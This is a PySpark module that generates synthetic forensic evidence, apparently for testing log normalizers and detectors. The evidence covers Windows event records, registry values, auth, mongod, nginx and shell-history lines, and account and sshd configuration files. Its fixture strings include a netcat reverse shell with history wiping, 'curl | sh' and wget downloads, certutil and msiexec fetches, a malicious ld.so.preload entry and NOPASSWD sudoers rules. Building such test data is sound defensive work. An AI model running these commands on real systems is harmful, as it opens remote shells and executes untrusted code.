"""Evidence derived from the driver's tables.

The tables hold no logs, so Spark writes the log lines, records and registry
rows a host would have written for the same facts. Their number grows with the
tables, and what a normalizer must read back is known from the facts.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from spoorline.functions.text import SEP, payload, strings
from spoorline.operators.normalize import normalize
from spoorline.session import shared_folder, written
from spoorline.sources.files import save_files
from spoorline.sources.lines import lines_of
from spoorline.streaming.stateful import delayed

COLLECTED = "2024-02-01 00:00:00"


def load(spark: SparkSession, sf: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf}/{name}.parquet")


def _collected() -> Column:
    return F.lit(COLLECTED).cast("timestamp")


def _t(*parts) -> Column:
    return F.concat(*[p.cast("string") if isinstance(p, Column) else F.lit(p) for p in parts])


def facts(spark: SparkSession, sf: str) -> DataFrame:
    """The events table with a plain timestamp and the number inside ``props``."""
    return (
        load(spark, sf, "events")
        .withColumn("at", F.col("ts").cast("timestamp"))
        .withColumn("k", F.get_json_object("props", "$.k").cast("int"))
        .drop("ts", "props")
    )


def spread_facts(spark: SparkSession, sf: str) -> DataFrame:
    """The facts over all cores, for what costs far more than a row's exchange.

    A file's row groups are read by a task each, and a table may have fewer than cores.
    """
    return facts(spark, sf).repartition(4 * spark.sparkContext.defaultParallelism, "event_id")


def squeezed(at: Column, by: int) -> Column:
    """The time of day run ``by`` times faster, so that bursts appear."""
    day = F.unix_micros(F.date_trunc("day", at))
    return F.timestamp_micros(day + F.floor((F.unix_micros(at) - day) / by))


def app_events(spark: SparkSession, sf: str, read=facts) -> DataFrame:
    """The events table as events of this package."""
    k, kind = F.col("k"), F.col("event_type")
    rows = read(spark, sf).select(
        F.col("event_id").alias("id"),
        F.col("at").alias("event_time"),
        F.lit("Logged").alias("ts_desc"),
        _t("host", F.col("user_id") % 7).alias("host"),
        _t("u", F.col("user_id")).alias("user"),
        kind.alias("event_type"),
        _t("app/", kind).alias("source_artifact"),
        F.when(k % 2 == 0, "evtx").otherwise("app").alias("parser"),
        F.when(k % 4 == 0, "").otherwise(_t("chan", k % 5)).alias("channel"),
        (k + 4600).cast("string").alias("event_id"),
        F.when(kind == "error", "high")
        .when(kind == "purchase", "med")
        .when(kind == "signup", "low")
        .otherwise("info")
        .alias("severity"),
        _t("Event ", kind).alias("title"),
        _t("k: ", k, f"{SEP}value: ", F.col("value")).alias("details"),
        payload(k=k, value=F.col("value"), provider=_t("p", k % 3)).alias("data"),
        F.array_compact(
            F.array(
                F.when(k % 3 == 0, F.lit("auto_fields")), F.when(k % 10 == 0, F.lit("odd"))
            )
        ).alias("tags"),
        F.when(kind == "error", strings(["T1110", "t1078"]))
        .when(kind == "purchase", strings(["T1078"]))
        .when(kind == "signup", strings(["T1136.001"]))
        .otherwise(strings([]))
        .alias("attck"),
    )
    return normalize(rows)


def command_events(spark: SparkSession, sf: str) -> DataFrame:
    """The same events with a command line that ends in Base64; ids of one kind in the scope of processes."""
    code = F.get_json_object(F.to_json("data"), "$.k")
    user = F.substring("user", 2, 20)
    line = _t("Tool.exe -N", code, " /U ", user, " ", F.base64(F.encode(_t("id=", user, ";end"), "UTF-8")))
    return app_events(spark, sf, spread_facts).withColumn(
        "data", F.map_concat("data", F.create_map(F.lit("command_line"), line))
    ).withColumn("event_id", F.when(F.col("event_type") == "click", "4688").otherwise(F.col("event_id")))


def process_events(spark: SparkSession, sf: str) -> DataFrame:
    """Process starts: many images, routine parents, and parents that live one day."""
    k, user = F.col("k"), F.col("user_id")
    image = _t("C:\\Apps\\p", (user * 100 + k) % 4999, ".exe")
    parent = F.when(
        k % 3 == 0, _t("C:/jobs/Day", F.dayofyear("at"), ".exe")
    ).otherwise(_t("C:\\svc\\svc", user % 23, ".exe"))
    rows = facts(spark, sf).select(
        F.col("event_id").alias("id"),
        squeezed(F.col("at"), 100).alias("event_time"),
        F.lit("Event Logged").alias("ts_desc"),
        F.when(F.col("event_type") == "signup", "logoff")
        .otherwise("process_created")
        .alias("event_type"),
        F.when(F.col("event_type") == "error", "high").otherwise("info").alias("severity"),
        payload(
            new_process_name=image, parent_process_name=parent,
            why=F.when(k % 7 == 0, F.lit("seen before")),
        ).alias("data"),
        F.when(k % 7 == 0, strings(["noted"])).otherwise(strings([])).alias("tags"),
    )
    return normalize(rows)


def syslog_lines(spark: SparkSession, sf: str) -> DataFrame:
    """An authentication log per host: classic and ISO clocks, all line shapes."""
    k, kind = F.col("k"), F.col("event_type")
    user = _t("u", F.col("user_id"))
    ip = _t("10.0.", k % 4, ".", F.col("user_id") % 20)
    host = _t("web", F.col("user_id") % 7)
    classic = _t(
        F.date_format("at", "MMM"), " ", F.lpad(F.dayofmonth("at").cast("string"), 2, " "), " ",
        F.date_format("at", "HH:mm:ss"), " ", host, " ",
    )
    iso = _t(F.date_format("at", "yyyy-MM-dd'T'HH:mm:ss"), "+00:00 ", host, " ")
    command = (
        F.when(k % 4 == 0, "/usr/bin/wget http://10.1.1.1/x")
        .when(k % 4 == 1, "/usr/bin/crontab -l")
        .when(k % 4 == 2, "/bin/ls /home")
        .otherwise("/bin/nc 10.0.0.1 4444 -e /bin/sh && history -c")
    )
    message = (
        F.when(
            kind == "error",
            _t("sshd[7]: [auth] Failed password for ", F.when(k % 4 == 0, "invalid user ").otherwise(""),
               user, " from ", ip, " port 22 ssh2"),
        )
        .when(
            kind == "purchase",
            _t("sshd[7]: [auth] Accepted ", F.when(k % 3 == 0, "publickey").otherwise("password"),
               " for ", user, " from ", ip, " port 22 ssh2"),
        )
        .when(
            (kind == "signup") & (k % 2 == 0),
            _t("useradd[9]: [acct] new user: name=", user, ", UID=1000"),
        )
        .when(kind == "signup", _t("groupadd[9]: [acct] new group: name=g", k, ", GID=7"))
        .when(
            kind == "view",
            _t("sudo:   ", user, " : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=", command),
        )
        .when(k % 3 == 0, _t("sshd[7]: [auth] Invalid user ", user, " from ", ip))
        .when(k % 3 == 1, _t("systemd[1]: [pam] session opened for user ", user, "(uid=0)"))
        .otherwise("kernel: [0.1] nothing to see")
    )
    is_iso = (k % 5 == 0) & (kind != "view")
    return facts(spark, sf).select(
        _t("/case/host", F.col("user_id") % 7, "/var/log/auth.log").alias("path"),
        (F.col("event_id") + 1).alias("line_no"),
        F.concat(F.when(is_iso, iso).otherwise(classic), message).alias("value"),
        _collected().alias("mtime"),
    )


def mongod_lines(spark: SparkSession, sf: str) -> DataFrame:
    """Database server logs: connections in quick succession, and broken lines."""
    k, kind = F.col("k"), F.col("event_type")
    at = F.timestamp_micros(
        F.lit(1704067200000000) + F.floor((F.unix_micros("at") - F.lit(1704067200000000)) / 5000)
    )
    remote = _t("10.9.0.", F.col("user_id") % 5, ":", F.col("user_id") + 30000)

    def record(letter: str, component: str, msg: str, attr: Column) -> Column:
        return _t(
            '{"t":{"$date":"', F.date_format(at, "yyyy-MM-dd'T'HH:mm:ss.SSS"), '+00:00"},"s":"',
            letter, '", "c":"', component, '",  "id":', F.col("event_id"), ',"ctx":"c', k,
            '","msg":"', msg, '","attr":{', attr, "}}",
        )

    connected = _t('"remote":"', remote, '","connectionId":', k, ',"uuid":{"a":', k, "}")
    line = (
        F.when(k == 99, _t("-- rotated at ", k, " --"))
        .when(kind.isin("click", "view"), record("I", "NETWORK", "Connection accepted", connected))
        .when(
            (kind == "error") & (k % 10 == 0),
            record(
                "W", "CONTROL",
                "Access control is not enabled for the database. Read and write is unrestricted",
                F.lit(""),
            ),
        )
        .when(
            kind == "error",
            record("I", "ACCESS", "Authentication failed", _t('"user":"u', F.col("user_id"), '"')),
        )
        .when(
            (kind == "purchase") & (k % 25 == 0),
            record("I", "CONTROL", "MongoDB starting",
                   _t('"pid":', k, ',"host":"db', F.col("user_id"), '"')),
        )
        .when(
            kind == "purchase",
            record("I", "INDEX", "Index build: done building", _t('"n":', k)),
        )
        .otherwise(record("W", "CONTROL", "We suggest setting the readahead to 8", _t('"n":', k)))
    )
    return facts(spark, sf).select(
        _t("/case/db", F.col("user_id") % 3, "/var/log/mongodb/mongod.log").alias("path"),
        (F.col("event_id") + 1).alias("line_no"),
        line.alias("value"),
        _collected().alias("mtime"),
    )


def body_lines(spark: SparkSession, sf: str) -> DataFrame:
    """A filesystem timeline per host, one entry per order."""
    key = F.col("o_orderkey")
    m = F.unix_seconds(F.col("o_orderdate").cast("timestamp"))
    name = (
        F.when(key % 9 == 0, _t("/home/c", F.col("o_custkey"), "/.bash_history"))
        .when(key % 9 == 1, _t("/tmp/drop|", key))
        .when(key % 9 == 2, "/etc/passwd")
        .when(key % 9 == 3, _t("/snap/core/", key, "/etc/sudoers"))
        .when(key % 9 == 4, _t("/usr/bin/tool", key))
        .when(key % 9 == 5, _t("/srv/data/run", key))
        .when(key % 9 == 6, _t("/home/c", F.col("o_custkey"), "/notes.txt"))
        .when(key % 9 == 7, _t("/var/spool/q", key))
        .otherwise(_t("/usr/share/doc/d", key))
    )
    mode = (
        F.when(key % 9 == 1, "-rwxr-xr-x")
        .when(key % 9 == 4, "-rwsr-xr-x")
        .when(key % 9 == 5, "-rwsr-xr-x")
        .when(key % 9 == 7, "lrwxrwxrwx")
        .when(key % 9 == 8, "drwxr-xr-x")
        .otherwise("-rw-r--r--")
    )
    line = F.when(key % 97 == 0, F.lit("-- not an entry --")).otherwise(
        F.concat_ws(
            "|",
            F.when(key % 4 == 0, F.md5(key.cast("string"))).otherwise("0"),
            name, key.cast("string"), mode, (key % 3).cast("string"), F.lit("0"),
            F.col("o_totalprice").cast("long").cast("string"),
            (m + (key % 5) * 60).cast("string"), m.cast("string"),
            (m + (key % 2) * 60).cast("string"),
            F.when(key % 3 == 0, "0").otherwise(m.cast("string")),
        )
    )
    return load(spark, sf, "orders").select(
        _t("/case/h", F.col("o_custkey") % 5, "/bodyfile.txt").alias("path"),
        (key + 1).alias("line_no"),
        line.alias("value"),
        _collected().alias("mtime"),
    )


def history_lines(spark: SparkSession, sf: str) -> DataFrame:
    """Shell histories: plain, dated by a marker line, and the one-line form."""
    k, kind = F.col("k"), F.col("event_type")
    epoch = F.unix_seconds("at")
    command = (
        F.when(kind == "error", _t("curl -s http://10.0.0.", k, "/x | sh"))
        .when(kind == "purchase", _t("mongodump --out /srv/d", k))
        .when(kind == "signup", _t("useradd -m u", F.col("user_id")))
        .when(kind == "view", "uname -a")
        .otherwise(_t("cd /srv/", k))
    )
    marked = k % 4 == 0
    extended = k % 4 == 1
    lines = F.when(
        marked, F.array(_t("#", epoch), F.lit("  "), command)
    ).otherwise(
        F.array(
            F.when(extended, _t(": ", epoch, ":0;", command)).otherwise(command),
        )
    )
    rows = facts(spark, sf).select(
        F.when(F.col("user_id") % 10 == 0, "/case/root/.bash_history")
        .otherwise(_t("/case/home/u", F.col("user_id") % 10, "/.zsh_history"))
        .alias("path"),
        "event_id",
        F.posexplode(lines).alias("__at", "value"),
    )
    return rows.select(
        "path",
        (F.col("event_id") * 4 + F.col("__at") + 1).alias("line_no"),
        "value",
        _collected().alias("mtime"),
    )


def config_lines(spark: SparkSession, sf: str, *kinds: str) -> DataFrame:
    """Account files of the customers and server configuration of the suppliers.

    ``kinds``: accounts, sshd, preload, service; all of them when none is given.
    """
    c = load(spark, sf, "customer").withColumn("n", F.col("c_custkey"))
    n = F.col("n")
    passwd = c.select(
        _t("/case/h", n % 10, "/etc/passwd").alias("path"), n.alias("line_no"),
        _t("c", n, ":x:", F.when(n % 50 == 0, F.lit(0)).otherwise(n), ":100::/home/c", n, ":",
           F.when(n % 3 == 0, "/bin/bash").otherwise("/usr/sbin/nologin")).alias("value"),
    )
    shadow = c.select(
        _t("/case/h", n % 10, "/etc/shadow").alias("path"), n.alias("line_no"),
        _t("c", n, ":", F.when(n % 40 == 0, "").when(n % 40 == 1, "$1$ab$cd")
           .when(n % 40 == 2, "!").otherwise("$6$ab$cd"), ":19000:0:::::").alias("value"),
    )
    s = load(spark, sf, "supplier").withColumn("n", F.col("s_suppkey"))
    sudoers = s.select(
        _t("/case/h", n % 10, "/etc/sudoers").alias("path"), n.alias("line_no"),
        F.when(n % 4 == 0, _t("s", n, " ALL=(ALL) NOPASSWD: ALL"))
        .when(n % 4 == 1, _t("s", n, " ALL=(ALL) NOPASSWD: /bin/ls"))
        .when(n % 4 == 2, _t("s", n, " ALL=(ALL:ALL) ALL"))
        .otherwise(_t("# s", n)).alias("value"),
    )
    keys = s.select(
        _t("/case/home/", F.when(n % 5 == 0, "mysql").otherwise(_t("s", n % 20)),
           "/.ssh/authorized_keys").alias("path"),
        n.alias("line_no"),
        _t("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI", F.lpad(n.cast("string"), 24, "k"), " s", n,
           "@laptop").alias("value"),
    )
    cron = s.select(
        _t("/case/h", n % 10, "/etc/cron.d/jobs", n % 3).alias("path"), n.alias("line_no"),
        F.when(n % 3 == 0, _t("*/5 * * * * root curl -s http://h", n, "/p"))
        .when(n % 3 == 1, _t("0 3 * * * root /usr/bin/backup", n))
        .otherwise(_t("# job ", n)).alias("value"),
    )
    sshd = s.select(
        _t("/case/s", n, "/etc/ssh/sshd_config").alias("path"),
        F.posexplode(F.array(
            _t("# server ", n),
            _t("Port ", n + 1000),
            _t("PermitRootLogin ", F.when(n % 3 == 0, "yes").when(n % 3 == 1, "no")
               .otherwise("prohibit-password")),
            _t("PasswordAuthentication ", F.when(n % 2 == 0, "yes").otherwise("no")),
            F.lit("permitrootlogin yes"),
            _t("X11Forwarding ", F.when(n % 5 == 0, "yes").otherwise("no")),
        )).alias("__at", "value"),
    ).select("path", (F.col("__at") + 1).cast("long").alias("line_no"), "value")
    preload = s.select(
        _t("/case/s", n, "/etc/ld.so.preload").alias("path"), F.lit(1).cast("long").alias("line_no"),
        F.when(n % 10 == 0, _t("/lib/evil", n, ".so")).otherwise("# none").alias("value"),
    )
    service = s.select(
        _t("/case/s", n, "/etc/mongod.conf").alias("path"),
        F.posexplode(F.array(
            F.lit("storage:"),
            F.lit("  dbPath: /var/lib/db"),
            F.lit("  wiredTiger:"),
            F.lit("    bindIp: 9.9.9.9"),
            F.lit("net:"),
            _t("  port: ", n + 27000),
            _t("  bindIp: ", F.when(n % 2 == 0, "0.0.0.0").otherwise("127.0.0.1"), "  # where"),
            F.when(n % 3 == 0, "#security:").otherwise("security:"),
            F.when(n % 3 == 0, "#  authorization: enabled")
            .when(n % 3 == 1, "  authorization: enabled")
            .otherwise("  other: true"),
        )).alias("__at", "value"),
    ).select("path", (F.col("__at") + 1).cast("long").alias("line_no"), "value")
    files = {
        "accounts": [passwd, shadow, sudoers, keys, cron],
        "sshd": [sshd],
        "preload": [preload],
        "service": [service],
    }
    parts = [part for kind in (kinds or files) for part in files[kind]]
    whole = parts[0]
    for part in parts[1:]:
        whole = whole.unionByName(part)
    return whole.withColumn("mtime", _collected())


def windows_records(spark: SparkSession, sf: str) -> DataFrame:
    """Decoded Windows records of five kinds, one per event."""
    k, kind = F.col("k"), F.col("event_type")
    user = _t("u", F.col("user_id"))
    shared = dict(
        TimeCreated_SystemTime=F.date_format("at", "yyyy-MM-dd'T'HH:mm:ss.SSSSSSXXX"),
        EventRecordID=F.col("event_id"),
        Computer=_t("PC", F.col("user_id") % 9),
    )
    image = (
        F.when(k % 4 == 0, _t("C:\\Users\\", user, "\\AppData\\Local\\qXzRt7Kp\\node.exe"))
        .when(k % 4 == 1, _t("C:\\Users\\", user, "\\AppData\\Local\\Vendor\\tool", k, ".exe"))
        .when(k % 4 == 2, "C:\\Windows\\System32\\whoami.exe")
        .otherwise("C:\\Program Files\\Office\\winword.exe")
    )
    parent = F.when(k % 3 == 0, "C:\\Windows\\System32\\cmd.exe").otherwise(
        "C:\\Windows\\explorer.exe"
    )
    record = (
        F.when(
            kind == "click",
            payload(EventID=F.lit("4688"), Provider_Name=F.lit("Microsoft-Windows-Security-Auditing"),
                    Channel=F.lit("Security"), SubjectUserName=user, NewProcessName=image,
                    ParentProcessName=parent,
                    CommandLine=F.when(k % 5 == 0, _t("certutil -urlcache -f http://h/", k)), **shared),
        )
        .when(
            kind == "error",
            payload(EventID=F.lit("4625"), Provider_Name=F.lit("Microsoft-Windows-Security-Auditing"),
                    Channel=F.lit("Security"), TargetUserName=user, LogonType=F.lit("3"),
                    Status=F.lit("0xC000006A"), IpAddress=_t("::ffff:10.2.0.", k), **shared),
        )
        .when(
            kind == "purchase",
            payload(EventID=F.lit("7045"), Provider_Name=F.lit("Service Control Manager"),
                    Channel=F.lit("System"),
                    ServiceName=F.when(k % 3 == 0, _t("cdpsvc_", F.lower(F.hex(k + 65536))))
                    .otherwise(_t("svc", k)),
                    ImagePath=F.when(k % 3 == 0, "C:\\Windows\\System32\\svchost.exe -k UnistackSvcGroup")
                    .when(k % 3 == 1, "C:\\ProgramData\\Stuff\\run.exe")
                    .otherwise("C:\\Tools\\agent.exe"), **shared),
        )
        .when(
            kind == "signup",
            payload(EventID=F.lit("4698"), Provider_Name=F.lit("Microsoft-Windows-Security-Auditing"),
                    Channel=F.lit("Security"), SubjectUserName=user,
                    TaskName=F.when(k % 2 == 0, "\\Microsoft\\Windows\\Defrag\\Job")
                    .otherwise(_t("\\Backup", k)), **shared),
        )
        .otherwise(
            payload(EventID=(k % 3 + 100).cast("string"), Provider_Name=_t("Acme-Agent-", k % 2),
                    Channel=F.lit("Acme/Operational"), param10=F.lit("ten"), param2=k,
                    Hashes=_t("MD5=", F.upper(F.md5(k.cast("string"))), ",X=1"), **shared),
        )
    )
    return spread_facts(spark, sf).select(
        _t("/case/logs/", F.when(kind == "purchase", "System").otherwise("Security"), ".evtx").alias(
            "path"
        ),
        (F.col("event_id") + 1).alias("record_no"),
        record.alias("record"),
    )


def registry_values(spark: SparkSession, sf: str) -> DataFrame:
    """Decoded registry values: one host's keys per part."""
    key = F.col("p_partkey")
    run = r"Microsoft\Windows\CurrentVersion\Run"
    sid = key % 8
    when = F.timestamp_seconds(F.lit(1704067200) + key * 60)

    def value(hive: str, path: str, sub: Column, name: Column, text: Column) -> Column:
        return F.struct(
            F.lit(hive).alias("hive_type"), F.lit(path).alias("key_path"),
            sub.cast("string").alias("subkey"), name.alias("value_name"),
            text.cast("string").alias("value"),
        )

    none = F.lit(None).cast("string")
    rows = (
        F.when(sid == 0, F.array(
            value("software", run, none, _t("v", key),
                  F.when(key % 3 == 0, _t("C:\\Users\\a\\AppData\\Roaming\\qXzRt7Kp\\go", key, ".exe"))
                  .when(key % 3 == 1, "C:\\Program Files\\Vendor\\tray.exe")
                  .otherwise("D:\\tools\\start.bat")),
        ))
        .when(sid == 1, F.array(
            value("system", r"ControlSet001\Control\TimeZoneInformation", none,
                  F.lit("ActiveTimeBias"), F.lit("300")),
            value("system", r"ControlSet001\Control\TimeZoneInformation", none,
                  F.lit("StandardName"), F.lit("@tzres.dll,-162")),
            value("system", r"ControlSet001\Control\TimeZoneInformation", none,
                  F.lit("DynamicDaylightTimeDisabled"), F.lit("0")),
        ))
        .when(sid == 2, F.array(
            value("system", r"ControlSet001\Control\ComputerName\ComputerName", none,
                  F.lit("ComputerName"), _t("PC-", key)),
        ))
        .when(sid == 3, F.array(
            value("system", r"ControlSet001\Services", _t("svc", key), F.lit("ImagePath"),
                  F.when(key % 2 == 0, "C:\\Windows\\Temp\\a.exe").otherwise("system32\\b.sys")),
            value("system", r"ControlSet001\Services", _t("svc", key), F.lit("Start"), F.lit("2")),
        ))
        .when(sid == 4, F.array(
            value("ntuser", r"Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist", none,
                  _t("P:\\Gbbyf\\", key), F.lit("0100")),
        ))
        .when(sid == 5, F.array(
            value("ntuser", r"Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU", none,
                  F.lit("a"),
                  F.when(key % 2 == 0, _t("msiexec /i http:\\\\h", key, "\\x.msi")).otherwise("cmd")),
        ))
        .when(sid == 6, F.array(
            value("amcache", r"Root\InventoryApplicationFile", _t("app|", key),
                  F.lit("LowerCaseLongPath"), _t("c:\\tools\\", key, ".exe")),
            value("amcache", r"Root\InventoryApplicationFile", _t("app|", key), F.lit("FileId"),
                  _t("0000", F.upper(F.sha1(key.cast("string"))))),
        ))
        .otherwise(F.array(
            value("system", r"ControlSet001\Enum\USBSTOR", _t("Disk&Ven_", key), F.lit("Serial"),
                  _t("s", key)),
            value("system", r"Other\Key", none, F.lit("x"), F.lit("y")),
        ))
    )
    return load(spark, sf, "part").select(
        F.concat(F.lit("/case/"), _t("p", key % 4), F.lit("/config/HIVE")).alias("path"),
        key,
        when.alias("key_time"),
        _collected().alias("mtime"),
        F.posexplode(rows).alias("__at", "__v"),
    ).select(
        "path", "__v.*", "key_time", "mtime",
        (F.col("p_partkey") * 4 + F.col("__at") + 1).cast("long").alias("value_no"),
    )


def web_lines(spark: SparkSession, sf: str) -> DataFrame:
    """Web access logs in the common format, and slash-dated application logs."""
    k = F.col("k")
    clf = _t(
        "10.3.0.", k, ' - - [', F.date_format("at", "dd/MMM/yyyy:HH:mm:ss"), ' +0100] "GET /p/', k,
        ' HTTP/1.1" 200 5',
    )
    slash = _t(F.date_format("at", "yyyy/MM/dd HH:mm:ss"), " worker ", k, " done")
    bare = _t("-- note ", k, " --")
    web = F.col("user_id") % 5 < 3
    return facts(spark, sf).select(
        F.when(web, _t("/case/var/log/nginx/access", F.col("user_id") % 5, ".log"))
        .otherwise(_t("/case/srv/app", F.col("user_id") % 5, ".txt"))
        .alias("path"),
        (F.col("event_id") + 1).alias("line_no"),
        F.when(k % 20 == 7, bare).when(web, clf).otherwise(slash).alias("value"),
        _collected().alias("mtime"),
    )


def document_lines(spark: SparkSession, sf: str) -> DataFrame:
    """Every document as a text file without timestamps."""
    docs = load(spark, sf, "documents")
    return lines_of(
        docs, _t("/case/notes/", F.col("doc_id"), ".txt"), F.col("text"), _collected()
    )


def page_files(spark: SparkSession, sf: str) -> DataFrame:
    """Pages and documents as files of a collection, as a binary reader gives them."""
    pages = load(spark, sf, "pages").select(
        F.when(F.col("page_id") % 3 == 0, _t("/case/etc/ssl/certs/", F.col("page_id"), ".pem"))
        .when(F.col("page_id") % 3 == 1, _t("/case/www/", F.col("page_id"), ".html"))
        .otherwise(_t("/case/var/log/auth.log.", F.col("page_id")))
        .alias("path"),
        F.encode("html", "UTF-8").alias("content"),
    )
    docs = load(spark, sf, "documents").select(
        F.when(F.col("doc_id") % 4 == 0, _t("/case/h", F.col("doc_id"), "/.bash_history"))
        .when(F.col("doc_id") % 4 == 1, _t("/case/h", F.col("doc_id"), "/etc/passwd"))
        .when(F.col("doc_id") % 4 == 2, _t("/case/bin/", F.col("doc_id"), ".bin"))
        .otherwise(_t("/case/notes/", F.col("doc_id"), ".txt"))
        .alias("path"),
        F.when(
            F.col("doc_id") % 4 == 2,
            F.concat(F.unhex(F.lit("7F454C4600")), F.encode("text", "UTF-8")),
        )
        .otherwise(F.encode("text", "UTF-8"))
        .alias("content"),
    )
    return pages.unionByName(docs).select(
        "path", "content", F.length("content").cast("long").alias("length"),
        _collected().alias("modificationTime"),
    )


def stored_history(spark: SparkSession, sf: str) -> tuple[str, DataFrame]:
    """The shell histories as real files below a new shared folder, one for each thousand events."""
    part = F.floor(F.col("line_no") / 4000).cast("long")
    rows = history_lines(spark, sf).withColumn(
        "path", F.regexp_replace("path", "^/case", F.concat(F.lit("/case/part"), part.cast("string")))
    )
    ordered = F.array_sort(F.collect_list(F.struct("line_no", "value")))
    text = F.concat(F.array_join(F.transform(ordered, lambda r: r["value"]), "\n"), F.lit("\n"))
    return _stored(rows.groupBy("path").agg(text.alias("content")), "history")


def stored_files(spark: SparkSession, sf: str) -> tuple[str, DataFrame]:
    """The page files below a new shared folder."""
    return _stored(page_files(spark, sf).select("path", "content"), "files")


def stored_notes(spark: SparkSession, sf: str) -> tuple[str, DataFrame]:
    """Documents as files; every fifth has the name of a packed file, which it is not."""
    path = F.when(F.col("doc_id") % 5 == 0, _t("/case/packed/.n", F.col("doc_id"), ".gz")).otherwise(
        _t("/case/notes/_", F.col("doc_id"), ".txt")
    )
    return _stored(load(spark, sf, "documents").select(path.alias("path"), F.col("text").alias("content")), "notes")


def _stored(rows: DataFrame, name: str) -> tuple[str, DataFrame]:
    folder = shared_folder(rows.sparkSession, name)
    return folder, written(save_files(rows, folder), "saved")


def login_arrivals(spark: SparkSession, sf: str) -> tuple[str, DataFrame]:
    """Login attempts as files that arrive: six slices of time, shuffled inside, the first two
    swapped; some rows of those two come last of all, behind every watermark; then rows of
    later months, which let the watermark pass the rest.
    """
    kind, k = F.col("event_type"), F.col("k")
    rows = facts(spark, sf)
    first, last = rows.agg(F.min("at"), F.max("at")).first()
    piece = delayed(F.col("at"), 6, F.lit(first), F.lit(last))
    table = rows.select(
        _t("10.7.0.", F.col("user_id") % 40).alias("source"), _t("u", k % 12).alias("account"),
        F.col("event_id").alias("line_no"), F.col("at").alias("event_time"),
        kind.isin("error", "click").alias("failed"), (kind == "purchase").alias("accepted"), (k % 5 == 0).alias("exempt"),
        F.when((piece < 2) & (k == 99), 6).otherwise(piece).alias("piece"),
    )
    table = written(table, "logins")
    folder = shared_folder(spark, "arrivals")
    for number in (1, 0, 2, 3, 4, 5, 6):
        part = table.where(F.col("piece") == number).drop("piece")
        part.orderBy(F.xxhash64("line_no")).coalesce(1).write.mode("append").parquet(folder)
    for month in ("2030-01-01", "2031-01-01"):
        flush = table.limit(1).drop("piece").withColumn("source", F.lit("flush")).withColumn("event_time", F.lit(month).cast("timestamp"))
        flush.coalesce(1).write.mode("append").parquet(folder)
    return folder, table.drop("piece")


def address_lines(spark: SparkSession, sf: str) -> DataFrame:
    """(doc_id, text): log lines that name an IPv4 and an IPv6 address, one for each event."""
    k, user = F.col("k"), F.col("user_id")
    six = _t("2001:db8:", F.lower(F.hex(user % 30)), ":", F.lower(F.hex(k)), ":0:0:0:1")
    local = _t("fe80:0:0:0:0:0:0:", F.lower(F.hex(k + 1)))
    return facts(spark, sf).select(
        F.col("event_id").alias("doc_id"),
        _t("peer 10.", k % 4, ".", user % 20, ".", k, " by ", six, F.when(k % 10 == 0, _t(" on ", local)).otherwise("")).alias("text"),
    )


def networks(spark: SparkSession, sf: str) -> DataFrame:
    """(network, label): a wide, a narrow and an IPv6 network of every supplier."""
    n = F.col("s_suppkey")
    nets = F.array(
        _t("10.", n % 8, ".0.0/16"), _t("10.", n % 4, ".", n % 256, ".0/24"), _t("2001:db8:", F.lower(F.hex(n)), "::/48")
    )
    return load(spark, sf, "supplier").select(F.explode(nets).alias("network"), F.col("s_name").alias("label"))
